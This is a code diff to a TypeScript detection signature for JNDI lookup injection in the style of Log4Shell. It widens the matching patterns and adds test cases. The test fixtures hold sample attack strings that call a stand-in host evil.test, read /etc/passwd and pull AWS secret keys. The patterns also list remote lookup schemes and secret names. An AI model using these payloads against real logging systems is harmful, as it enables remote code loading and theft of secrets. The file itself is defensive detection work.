@@ -4,17 +4,21 @@ import { type Characters, hasAll, marksOf, type Reading } from '../readings/read
 import type { Finding, Signature } from '../signature.ts';
 
 const MARKS = marksOf('${:');
+/** The name of an object elsewhere as a whole value, for whoever looks names up. */
+const BARE = /^\s{0,4}(?:java:comp\/env\/)?jndi:(?:ldaps?|rmi|dns|iiop|corba|nis|https?):/i;
+const COLON = marksOf(':');
 const JNDI = /^\s{0,4}jndi\s{0,4}:/;
 const SCHEME = /^\s{0,4}jndi\s{0,4}:\s{0,4}(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?|ldap)\b/;
 /** Lookups of the same notation that run a script or fetch an address. */
 const ACTIVE =
-  /^\s{0,4}(?:script\s{0,4}:\s{0,4}(?:javascript|js|groovy|jexl|nashorn|python|beanshell)\b|url\s{0,4}:\s{0,4}[\w-]{1,12}:\s{0,4}(?:https?|file|ftp|jar):|dns:(?:address|name|canonicalname)\|)/;
+  /^\s{0,4}(?:script\s{0,4}:\s{0,4}(?:javascript|js|groovy|jexl|nashorn|python|beanshell)\b|url\s{0,4}:\s{0,4}[\w-]{1,12}:\s{0,4}(?:https?|file|ftp|jar):|dns:(?:address|name|canonicalname)\||file\s{0,4}:\s{0,4}[\w-]{1,12}\s{0,4}:\s{0,4}(?:\/|[a-z]:|\.\.)|const\s{0,4}:\s{0,4}(?:javax?|com|org)\.|(?:xml|properties)\s{0,4}:\s{0,4}[^:}]{0,80}\.\.?\/)/;
 /** A disguised lookup whose end was cut off, or that hides in a way no library undoes. */
 const SPELLED = /jndi|ldap|rmi:|\bj?n?d?i?:\/\//;
 const FEWEST_DISGUISES = 2;
 const SUREST = 0.98;
 /** Values of the server itself. */
-const SERVER_VALUE = /^\s{0,4}(?:env|sys|java|main|bundle|hostname|log4j|ctx|web|docker|k8s|spring)\s{0,4}:\s{0,4}\w/;
+const SERVER_VALUE =
+  /^\s{0,4}(?:env|sys|java|main|bundle|hostname|log4j|ctx|web|docker|k8s|spring|const|properties|localhost|resourcebundle|urldecoder|base64decoder)\s{0,4}:\s{0,4}\w/;
 const SECRET = /secret|passw|token|access_?key|api_?key|credential|aws_|database_url/;
 
 /** Lookups that a logging library follows to a foreign server (`${jndi:ldap://…}`), however they are nested. */
@@ -32,6 +36,9 @@ export const jndiLookup: Signature = {
       '${jnd${upper:\u0131}:dns://evil.test}',
       { headers: { 'user-agent': '${jndi:dns://evil.test/${env:USER}}' } },
       { headers: { 'x-api-version': '${env:AWS_SECRET_ACCESS_KEY}' } },
+      'jndi:ldap://evil.test/a',
+      '${file:UTF-8:/etc/passwd}',
+      '${const:java.awt.event.KeyEvent.VK_ESCAPE}',
     ],
     misses: [
       '${user.name}',
@@ -42,9 +49,11 @@ export const jndiLookup: Signature = {
     ],
   },
   couldMatch(characters: Characters): boolean {
-    return hasAll(characters, MARKS);
+    return hasAll(characters, COLON);
   },
   match(reading: Reading): Finding | null {
+    if (BARE.test(reading.text)) return { pattern: 'name of an object elsewhere', confidence: 0.75, at: 0 };
+    if (!hasAll(reading, MARKS)) return null;
     let best: Finding | null = null;
     for (const lookup of lookupsOf(reading.text)) {
       const found = judge(lookup, reading);
